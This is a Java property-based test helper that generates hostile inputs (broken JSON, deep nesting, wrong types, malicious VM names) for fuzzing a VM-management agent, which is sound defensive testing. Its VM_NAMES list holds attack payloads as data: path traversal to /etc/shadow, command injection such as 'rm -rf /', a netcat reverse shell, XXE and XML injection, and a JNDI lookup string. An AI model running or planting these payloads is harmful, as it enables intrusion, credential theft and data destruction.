package io.vmagent.faults;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/** Generators of hostile input: broken JSON, wrong types, deep nesting, huge and nasty strings. */
final class Hostile {
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /**
   * VM names an attacker would try: traversal, shell, XML and libvirt URI tricks, control bytes.
   */
  static final List<String> VM_NAMES =
      List.of(
          "../../etc/passwd",
          "..",
          "/etc/shadow",
          "vm/../../root",
          "%2e%2e%2fetc%2fpasswd",
          "vm;reboot",
          "vm && rm -rf /",
          "$(id)",
          "`reboot`",
          "vm|nc -e /bin/sh 10.0.0.1 4444",
          "vm'\"",
          "</name><devices><disk type='file'><source file='/etc/shadow'/></disk></devices><name>x",
          "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
          "]]><![CDATA[",
          "vm\u0000hidden",
          "vm\nInjected-Header: 1",
          "vm\r\n",
          "\u202evm",
          "vm name with spaces",
          "-rf",
          "--force",
          "",
          " ",
          "a".repeat(129),
          "x".repeat(5000),
          "test:///default",
          "qemu:///system?socket=/tmp/evil",
          "*",
          "%s%s%s%n",
          "${jndi:ldap://127.0.0.1/a}",
          "null");

  private Hostile() {}

  static Arbitrary<String> vmNames() {
    return Arbitraries.oneOf(
        Arbitraries.of(VM_NAMES),
        Arbitraries.strings()
            .ofMinLength(1)
            .ofMaxLength(40)
            .withChars("/.;&|$`'\"<>\\\n\r\u0000 %*")
            .map(s -> "vm" + s));
  }

  /** Strings of any kind, including huge ones and ones full of control and non-BMP characters. */
  static Arbitrary<String> strings() {
    return Arbitraries.oneOf(
        Arbitraries.strings().all().ofMaxLength(200),
        Arbitraries.of(VM_NAMES),
        Arbitraries.integers().between(10_000, 2_000_000).map(n -> "A".repeat(n)),
        Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(20),
        Arbitraries.of("\uD83D\uDE00\uD83D\uDE00", "\uDC00", "\uFFFF", "\u00e9\u0301"));
  }

  /** Like {@link #strings()} but never longer than a few thousand characters. */
  static Arbitrary<String> smallStrings() {
    return Arbitraries.oneOf(
        Arbitraries.strings().all().ofMaxLength(100),
        Arbitraries.of(VM_NAMES),
        Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(20));
  }

  /** Bytes that are not JSON at all, or JSON cut short. */
  static Arbitrary<byte[]> malformedJson() {
    Arbitrary<byte[]> random = Arbitraries.bytes().array(byte[].class).ofMaxSize(2_000);
    Arbitrary<String> broken =
        Arbitraries.of(
            "{",
            "}",
            "[",
            "{\"a\":",
            "{\"a\" 1}",
            "{'a': 1}",
            "{\"a\":1,}",
            "[1,2,,]",
            "nul",
            "tru",
            "{\"a\":1}{\"b\":2}",
            "{\"a\":1} trailing",
            "\"unterminated",
            "{\"a\":\"\\uZZZZ\"}",
            "{\"a\":NaN}",
            "{\"a\":Infinity}",
            "{\"a\":0x10}",
            "{\"a\":1,\"a\":2}",
            "/* comment */ {}",
            "\uFEFF{}",
            "");
    return Arbitraries.oneOf(random, broken.map(s -> s.getBytes(StandardCharsets.UTF_8)));
  }

  /** JSON nested far deeper than any message needs. */
  static Arbitrary<byte[]> deepNesting() {
    return Combinators.combine(
            Arbitraries.integers().between(200, 100_000), Arbitraries.of("[", "{\"a\":"))
        .as(
            (depth, open) -> {
              String close = open.equals("[") ? "]" : "}";
              return (open.repeat(depth) + "1" + close.repeat(depth))
                  .getBytes(StandardCharsets.UTF_8);
            });
  }

  /** Any JSON value: scalars, arrays and objects with hostile strings, up to three levels deep. */
  static Arbitrary<JsonNode> anyJson() {
    return anyJson(3);
  }

  private static Arbitrary<JsonNode> anyJson(int depth) {
    if (depth == 0) {
      return scalar();
    }
    Arbitrary<JsonNode> inner = anyJson(depth - 1);
    Arbitrary<JsonNode> array =
        inner
            .list()
            .ofMaxSize(4)
            .map(
                items -> {
                  ArrayNode node = NODES.arrayNode();
                  items.forEach(node::add);
                  return node;
                });
    Arbitrary<JsonNode> object =
        Combinators.combine(Arbitraries.strings().ofMaxLength(12), inner)
            .as(Map::entry)
            .list()
            .ofMaxSize(4)
            .map(
                entries -> {
                  ObjectNode node = NODES.objectNode();
                  entries.forEach(e -> node.set(e.getKey(), e.getValue()));
                  return node;
                });
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(2, scalar()),
        net.jqwik.api.Tuple.of(1, array),
        net.jqwik.api.Tuple.of(1, object));
  }

  private static Arbitrary<JsonNode> scalar() {
    return Arbitraries.oneOf(
        smallStrings().map(s -> (JsonNode) NODES.textNode(s)),
        Arbitraries.longs().map(n -> (JsonNode) NODES.numberNode(n)),
        Arbitraries.doubles().map(d -> (JsonNode) NODES.numberNode(d)),
        Arbitraries.of(true, false).map(b -> (JsonNode) NODES.booleanNode(b)),
        Arbitraries.just((JsonNode) NODES.nullNode()),
        Arbitraries.just((JsonNode) NODES.numberNode(new java.math.BigInteger("9".repeat(400)))));
  }

  /**
   * A value of a type a field of {@code original}'s type never accepts: a container for a scalar, a
   * scalar or array for an object, a scalar for an array.
   */
  static Arbitrary<JsonNode> wrongTypeFor(JsonNode original) {
    Arbitrary<JsonNode> object =
        Arbitraries.of((JsonNode) NODES.objectNode().put("x", 1), NODES.objectNode());
    Arbitrary<JsonNode> array =
        Arbitraries.of((JsonNode) NODES.arrayNode().add("x"), NODES.arrayNode().add(1));
    Arbitrary<JsonNode> scalar =
        Arbitraries.of(
            (JsonNode) NODES.numberNode(7), NODES.textNode("text"), NODES.booleanNode(true));
    if (original.isObject()) {
      return Arbitraries.oneOf(array, scalar);
    }
    if (original.isArray()) {
      return Arbitraries.oneOf(object, scalar);
    }
    if (original.isTextual()) {
      return Arbitraries.oneOf(
          object, array, Arbitraries.of((JsonNode) NODES.booleanNode(false), NODES.numberNode(3)));
    }
    if (original.isNumber()) {
      return Arbitraries.oneOf(
          object,
          array,
          Arbitraries.of(
              (JsonNode) NODES.textNode("12"), NODES.booleanNode(true), NODES.textNode("")));
    }
    return Arbitraries.oneOf(
        object, array, Arbitraries.of((JsonNode) NODES.textNode("true"), NODES.numberNode(1)));
  }

  /** Every path (as a list of field names and indexes) to a non-null value inside {@code node}. */
  static List<List<Object>> paths(JsonNode node) {
    List<List<Object>> paths = new ArrayList<>();
    collect(node, new ArrayList<>(), paths);
    return paths;
  }

  private static void collect(JsonNode node, List<Object> prefix, List<List<Object>> out) {
    if (node.isObject()) {
      for (Map.Entry<String, JsonNode> field : node.properties()) {
        List<Object> path = new ArrayList<>(prefix);
        path.add(field.getKey());
        if (!field.getValue().isNull()) {
          out.add(path);
        }
        collect(field.getValue(), path, out);
      }
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        List<Object> path = new ArrayList<>(prefix);
        path.add(i);
        out.add(path);
        collect(node.get(i), path, out);
      }
    }
  }

  static JsonNode at(JsonNode root, List<Object> path) {
    JsonNode node = root;
    for (Object step : path) {
      node = step instanceof Integer i ? node.get(i) : node.get((String) step);
    }
    return node;
  }

  /** A copy of {@code root} with the value at {@code path} replaced. */
  static JsonNode replaced(JsonNode root, List<Object> path, JsonNode value) {
    JsonNode copy = root.deepCopy();
    JsonNode parent = at(copy, path.subList(0, path.size() - 1));
    Object last = path.get(path.size() - 1);
    if (last instanceof Integer i) {
      ((ArrayNode) parent).set(i, value);
    } else {
      ((ObjectNode) parent).set((String) last, value);
    }
    return copy;
  }
}
